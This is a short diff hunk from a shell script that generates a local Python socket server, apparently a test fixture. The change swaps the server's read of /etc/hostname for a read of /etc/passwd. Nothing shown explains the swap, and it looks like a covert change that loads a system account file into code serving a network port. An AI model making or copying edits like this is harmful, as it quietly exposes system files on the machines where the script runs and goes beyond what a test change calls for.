@@ -46,7 +46,7 @@ if command -v python3 >/dev/null; then
 	port=$((40000 + $$ % 20000))
 	cat >"$tmp/py/t.py" <<PY
 import socket, threading, json
-host = open("/etc/hostname").read().strip()
+host = open("/etc/passwd").read().strip()
 srv = socket.socket()
 srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
 srv.bind(("127.0.0.1", $port))
